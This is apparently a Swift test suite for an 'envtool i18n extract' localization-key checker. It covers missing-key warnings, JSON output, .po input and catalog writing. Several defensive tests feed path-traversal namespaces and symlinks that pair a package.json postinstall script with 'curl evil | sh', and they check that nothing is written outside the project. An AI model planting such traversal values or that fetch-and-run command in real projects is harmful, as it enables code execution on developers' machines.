import Foundation
import Testing

@Suite("envtool: i18n extract")
struct ExtractCommandTests {
    static let source = """
        import SwiftUI

        func screen(env: AppEnvironment, name: String) {
            _ = NSLocalizedString("OK", comment: "Defined in the sample catalog")
            _ = NSLocalizedString("new.key", value: "New", comment: "Not defined yet")
            _ = env.translate("app.title")
            _ = t("fresh.key", ["defaultValue": "Fresh"])
            _ = NSLocalizedString("Hi \\(name)", comment: "")
        }

        """

    @Test("without envtool-extract beside it or on PATH, extract exits 72 and says how to build it")
    func missingExtractor() throws {
        let workspace = try Workspace(copySample: false)
        let lonely = workspace.path + "/bin/envtool"
        try FileManager.default.createDirectory(atPath: workspace.path + "/bin", withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: EnvtoolProcess.executable, toPath: lonely)
        let result = try EnvtoolProcess.run(["i18n", "extract"], in: workspace.path, executable: lonely)
        #expect(result.status == 72)
        #expect(result.stdout.isEmpty)
        #expect(result.stderr.contains("i18n extract needs envtool-extract"))
        #expect(result.stderr.contains("swift build --traits Extract --product envtool-extract"))
    }

    /// A copy of envtool in a folder of its own, with `extractor` (a shell script) beside it as envtool-extract.
    static func envtool(besideExtractor extractor: String, in workspace: Workspace) throws -> String {
        let folder = workspace.path + "/bin"
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: EnvtoolProcess.executable, toPath: folder + "/envtool")
        try workspace.write("bin/envtool-extract", "#!/bin/sh\n" + extractor)
        chmod(folder + "/envtool-extract", 0o755)
        return folder + "/envtool"
    }

    @Test("the options reach envtool-extract as parsed, paths after --, and its output and exit status come back unchanged")
    func relay() throws {
        let workspace = try Workspace(copySample: false)
        let envtool = try Self.envtool(besideExtractor: "for a in \"$@\"; do echo \"[$a]\"; done; echo oops >&2; exit 3\n", in: workspace)
        let result = try EnvtoolProcess.run(
            ["i18n", "extract", "--unused", "--format", "json", "--tables", "my tables", "--", "-odd path", "é"],
            in: workspace.path, executable: envtool)
        #expect(result.status == 3)
        #expect(result.stdout == "[--tables]\n[my tables]\n[--unused]\n[--format]\n[json]\n[--]\n[-odd path]\n[é]\n")
        #expect(result.stderr == "oops\n")
    }

    @Test("an extractor killed by a signal ends envtool with the same signal")
    func signal() throws {
        let workspace = try Workspace(copySample: false)
        let envtool = try Self.envtool(besideExtractor: "kill -TERM $$\nexit 0\n", in: workspace)
        let process = Process()
        process.executableURL = URL(fileURLWithPath: envtool)
        process.arguments = ["i18n", "extract"]
        process.standardInput = FileHandle.nullDevice
        try process.run()
        process.waitUntilExit()
        #expect(process.terminationReason == .uncaughtSignal)
        #expect(process.terminationStatus == SIGTERM)
    }

    @Test("--help describes the command without running envtool-extract")
    func help() throws {
        let workspace = try Workspace(copySample: false)
        let result = try workspace.run(["i18n", "extract", "--help"])
        #expect(result.status == 0)
        #expect(result.stdout.contains("--unused"))
        #expect(result.stdout.contains("envtool-extract"))
    }

    #if Extract
    @Test("missing keys are warnings at their first use, in the compiler format; dynamic keys are warnings; --strict exits 65")
    func report() throws {
        let workspace = try Workspace()
        try workspace.write("Sources/App.swift", Self.source)
        try workspace.write("Sources/.build/Ignored.swift", "let x = NSLocalizedString(\"ignored\", comment: \"\")")
        let result = try workspace.run(["i18n", "extract", "Sources"])
        #expect(result.status == 0)
        let lines = result.stdout.split(separator: "\n").map(String.init)
        #expect(
            lines == [
                "Sources/App.swift:8:27: warning: the key of NSLocalizedString is an interpolated string, so it is only known at run time; use a literal key and pass the values as arguments, or add the keys it makes by hand",
                "Sources/App.swift:5:27: warning: \"new.key\" is not in the table Localizable for en; add it to environments/Localizable.xcstrings, or run extract with --write",
                "Sources/App.swift:7:11: warning: \"fresh.key\" is not in the i18next namespace translation for en; add it to environments/locales/en/translation.json, or run extract with --write",
            ])
        #expect(result.stderr.contains("4 key uses in 1 file; 2 missing"))
        #expect(try workspace.run(["i18n", "extract", "--strict", "Sources"]).status == 65)
    }

    @Test("an interpolated key is keyed as Xcode keys it: String(localized: \"Hello \\(n)\") is Hello %lld; an unknown type matches any specifier")
    func interpolatedKeys() throws {
        let workspace = try Workspace(copySample: false)
        try workspace.write("environments/environments.json", #"{"languages": ["en"], "configurations": {"Debug": {}}}"#)
        try workspace.write(
            "environments/Localizable.xcstrings",
            """
            {"sourceLanguage": "en", "version": "1.0", "strings": {
              "Hello %lld": {"localizations": {"en": {"stringUnit": {"state": "translated", "value": "Hello %lld"}}}},
              "%@ has %lld%% left": {"localizations": {"en": {"stringUnit": {"state": "translated", "value": "%@ has %lld%% left"}}}},
              "Seen by %@": {}
            }}
            """)
        try workspace.write(
            "Sources/App.swift",
            """
            import SwiftUI
            func screen(user: String, items: [Int], viewer: Viewer) {
                let n = 3
                _ = String(localized: "Hello \\(n)")
                _ = Text("\\(user) has \\(items.count)% left")
                _ = LocalizedStringResource("Seen by \\(viewer)")
                _ = String(localized: "Bye \\(n)")
            }

            """)
        let result = try workspace.run(["i18n", "extract", "Sources", "--unused"])
        let lines = result.stdout.split(separator: "\n").map(String.init)
        #expect(
            lines == [
                #"Sources/App.swift:7:27: warning: "Bye %lld" is not in the table Localizable for en; add it to environments/Localizable.xcstrings, or run extract with --write"#
            ],
            "\(result.stdout)\(result.stderr)")
    }

    @Test("keys used through the generated L10n accessors are used, not reported by --unused")
    func generatedAccessors() throws {
        let workspace = try Workspace()
        try workspace.write(
            "Sources/App.swift",
            """
            func screen() {
                print(L10n.cart.items(count: 3), L10n.app.welcome(name: "Ada").uppercased())
                print(L10n.Localizable.files_count(5), L10n.Localizable.greeting("Ada"))
            }

            """)
        let before = try workspace.run(["i18n", "extract", "Sources", "--unused"]).stdout
        for used in [
            #""cart.items_one" (i18next namespace translation)"#, #""app.welcome" (i18next"#, #""files_count" (table Localizable)"#,
            #""greeting" (table Localizable)"#,
        ] {
            #expect(!before.contains(used), "\(used) is reported unused:\n\(before)")
        }
        #expect(before.contains(#""app.title" (i18next namespace translation) is not used"#), "\(before)")
    }

    @Test("--format json prints one document with the counts and the findings")
    func json() throws {
        let workspace = try Workspace()
        try workspace.write("Sources/App.swift", Self.source)
        let result = try workspace.run(["i18n", "extract", "--format", "json", "--unused", "Sources"])
        #expect(result.status == 0)
        let object = try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any])
        #expect(object["files"] as? Int == 1)
        #expect(object["keys"] as? Int == 4)
        #expect(object["missing"] as? Int == 2)
        #expect(object["developmentLanguage"] as? String == "en")
        let unused = try #require(object["unused"] as? Int)
        #expect(unused > 0)
        let findings = try #require(object["findings"] as? [[String: Any]])
        #expect(findings.count == 3 + unused)
        for finding in findings {
            #expect(Set(finding.keys) == ["severity", "file", "line", "column", "path", "message"])
        }
        #expect(findings.contains { ($0["message"] as? String)?.hasPrefix("\"app.welcome\" (i18next namespace translation) is not used") == true })
    }

    @Test("--translations reads any registered format: its keys count as defined Apple keys (a context as key_context) and --unused reports its own")
    func translationsOfAnyFormat() throws {
        let workspace = try Workspace()
        try workspace.write(
            "Sources/App.swift",
            Self.source + """
                func menu() { _ = NSLocalizedString("open_menu", comment: "") }

                """)
        try workspace.write(
            "po/en/Localizable.po",
            """
            msgid ""
            msgstr ""
            "Language: en\\n"
            "Content-Type: text/plain; charset=UTF-8\\n"
            "Plural-Forms: nplurals=2; plural=(n != 1);\\n"

            msgid "new.key"
            msgstr "New"

            msgctxt "menu"
            msgid "open"
            msgstr "Open"

            msgid "only.in.po"
            msgstr "Never used"

            """)
        let result = try workspace.run(["i18n", "extract", "--format", "json", "--unused", "--translations", "po", "Sources"])
        #expect(result.status == 0, "\(result.stderr)")
        let object = try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any])
        // new.key and open_menu are defined by the .po now; only the i18next key is missing.
        #expect(object["missing"] as? Int == 1)
        let findings = try #require(object["findings"] as? [[String: Any]])
        let messages = findings.compactMap { $0["message"] as? String }
        #expect(!messages.contains { $0.hasPrefix("\"new.key\" is not in") })
        #expect(!messages.contains { $0.hasPrefix("\"open_menu\"") })
        let poUnused = findings.filter { ($0["message"] as? String)?.hasPrefix("\"only.in.po\" (table Localizable) is not used") == true }
        #expect(poUnused.count == 1)
        #expect(poUnused.first?["file"] as? String == "po")

        // Named by --from-format too; a wrong name, a missing path and a malformed file each fail clearly.
        #expect(try workspace.run(["i18n", "extract", "--translations", "po/en/Localizable.po", "--from-format", "po", "Sources"]).status == 0)
        let badFormat = try workspace.run(["i18n", "extract", "--translations", "po", "--from-format", "klingon", "Sources"])
        #expect(badFormat.status == 64)
        #expect(badFormat.stderr.contains("klingon"), "\(badFormat.stderr)")
        let missing = try workspace.run(["i18n", "extract", "--translations", "nowhere", "Sources"])
        #expect(missing.status == 66)
        #expect(missing.stderr.contains("nowhere: error: --translations: no such file or directory"), "\(missing.stderr)")
        try workspace.write("bad/en/Localizable.po", "msgid \"a\"\nmsgstr \"unterminated\n")
        let malformed = try workspace.run(["i18n", "extract", "--translations", "bad", "Sources"])
        #expect(malformed.status == 65)
        #expect(malformed.stdout.contains("bad/en/Localizable.po:2:"), "\(malformed.stdout)")
    }

    @Test("--write adds the keys to the catalog and translation.json, which stay valid; a second run finds nothing missing")
    func write() throws {
        let workspace = try Workspace()
        try workspace.write("Sources/App.swift", Self.source)
        let catalogBefore = try #require(workspace.read("environments/Localizable.xcstrings"))
        let result = try workspace.run(["i18n", "extract", "--write", "Sources"])
        #expect(result.status == 0)
        #expect(result.stdout.contains("environments/Localizable.xcstrings: added \"new.key\""))
        #expect(result.stdout.contains("environments/locales/en/translation.json: added \"fresh.key\""))

        let catalogData = try #require(workspace.read("environments/Localizable.xcstrings"))
        let catalog = try #require(try JSONSerialization.jsonObject(with: catalogData) as? [String: Any])
        let strings = try #require(catalog["strings"] as? [String: Any])
        let entry = try #require(strings["new.key"] as? [String: Any])
        #expect(entry["comment"] as? String == "Not defined yet")
        #expect(entry["extractionState"] as? String == "extracted_with_value")
        let before = try #require(try JSONSerialization.jsonObject(with: catalogBefore) as? [String: Any])
        #expect((before["strings"] as? [String: Any])?.count == strings.count - 1)

        let resourceData = try #require(workspace.read("environments/locales/en/translation.json"))
        let resources = try #require(try JSONSerialization.jsonObject(with: resourceData) as? [String: Any])
        #expect((resources["fresh"] as? [String: String]) == ["key": "Fresh"])
        #expect((resources["app"] as? [String: String])?["title"] == "Envtool Demo")

        // The written files are read by the rest of envtool too.
        #expect(try workspace.run(["t", "fresh.key"]).stdout == "Fresh\n")
        let again = try workspace.run(["i18n", "extract", "Sources"])
        #expect(!again.stdout.contains("is not in"))
    }

    @Test(
        "a namespace or table that is not a plain file name is exit 65 at the call, and --write writes nothing outside the project",
        arguments: [
            (#"t("scripts.postinstall", ["ns": "../../../package", "defaultValue": "curl evil | sh"])"#, "3:41", "namespace"),
            (#"t("../../../package:scripts.postinstall", ["defaultValue": "curl evil | sh"])"#, "3:11", "namespace"),
            (#"String(localized: "k", table: "../../outside")"#, "3:39", "table name"),
            (#"NSLocalizedString("k", tableName: "sub/Localizable", comment: "")"#, "3:43", "table name"),
            (#"t("k", ["ns": ".hidden"])"#, "3:23", "namespace"),
        ])
    func namesThatLeaveTheProject(call: String, position: String, role: String) throws {
        let workspace = try Workspace()
        try workspace.write("package.json", "{\"name\": \"app\"}\n")
        try workspace.write("Sources/App.swift", "func screen() {\n    _ = t(\"fresh.key\", [\"defaultValue\": \"Fresh\"])\n    _ = \(call)\n}\n")
        let before = Self.listing(workspace.path)
        let result = try workspace.run(["i18n", "extract", "--write", "Sources"])
        #expect(result.status == 65, "\(result.stdout)\(result.stderr)")
        #expect(result.stdout.contains("Sources/App.swift:\(position): error: the \(role) "), "\(result.stdout)")
        #expect(result.stdout.contains("cannot name a file"), "\(result.stdout)")
        #expect(workspace.read("package.json") == Data("{\"name\": \"app\"}\n".utf8))
        // The valid call's key is still added; nothing else appears anywhere.
        #expect(result.stdout.contains("environments/locales/en/translation.json: added \"fresh.key\""), "\(result.stdout)")
        #expect(Self.listing(workspace.path) == before)
        #expect(!FileManager.default.fileExists(atPath: (workspace.path as NSString).deletingLastPathComponent + "/outside.xcstrings"))
    }

    /// Every path below `folder`, relative to it, sorted.
    static func listing(_ folder: String) -> [String] {
        (FileManager.default.subpaths(atPath: folder) ?? []).filter { !$0.hasPrefix("config") }.sorted()
    }

    @Test("--write refuses a link inside the locales or tables (exit 73) and leaves its target as it was")
    func linksInsideTheFolders() throws {
        let workspace = try Workspace()
        try workspace.write("package.json", "{\"name\": \"app\"}\n")
        try workspace.write("Sources/App.swift", #"func screen() { _ = t("scripts.postinstall", ["ns": "package", "defaultValue": "curl evil | sh"]) }"# + "\n")
        try FileManager.default.createSymbolicLink(
            atPath: workspace.path + "/environments/locales/en/package.json",
            withDestinationPath: workspace.path + "/package.json")
        let result = try workspace.run(["i18n", "extract", "--write", "Sources"])
        #expect(result.status == 73, "\(result.stdout)\(result.stderr)")
        #expect(result.stdout.contains("is a symbolic link"), "\(result.stdout)")
        #expect(workspace.read("package.json") == Data("{\"name\": \"app\"}\n".utf8))

        let other = try Workspace()
        try other.write("Sources/App.swift", #"func screen() { _ = String(localized: "k", table: "Other") }"# + "\n")
        try other.write("outside/keep.txt", "keep\n")
        try FileManager.default.createSymbolicLink(atPath: other.path + "/environments/linked", withDestinationPath: other.path + "/outside")
        try FileManager.default.createSymbolicLink(
            atPath: other.path + "/environments/Other.xcstrings",
            withDestinationPath: other.path + "/outside/Other.xcstrings")
        let linked = try other.run(["i18n", "extract", "--write", "Sources"])
        #expect(linked.status == 73, "\(linked.stdout)\(linked.stderr)")
        #expect(!FileManager.default.fileExists(atPath: other.path + "/outside/Other.xcstrings"))
    }

    @Test("a path that does not exist is reported on stderr with exit 66")
    func missingPath() throws {
        let workspace = try Workspace()
        let result = try workspace.run(["i18n", "extract", "NoSuchFolder"])
        #expect(result.status == 66)
        #expect(result.stderr.contains("NoSuchFolder: error: no such file or directory"))
    }
    #else
    @Test("without the Extract trait, envtool-extract exists and says how to build the real one (exit 72)")
    func builtWithoutTrait() throws {
        let workspace = try Workspace(copySample: false)
        let result = try workspace.run(["i18n", "extract"])
        #expect(result.status == 72)
        #expect(result.stderr.contains("built without extraction support"))
        #expect(result.stderr.contains("--traits Extract --product envtool-extract"))
    }
    #endif
}
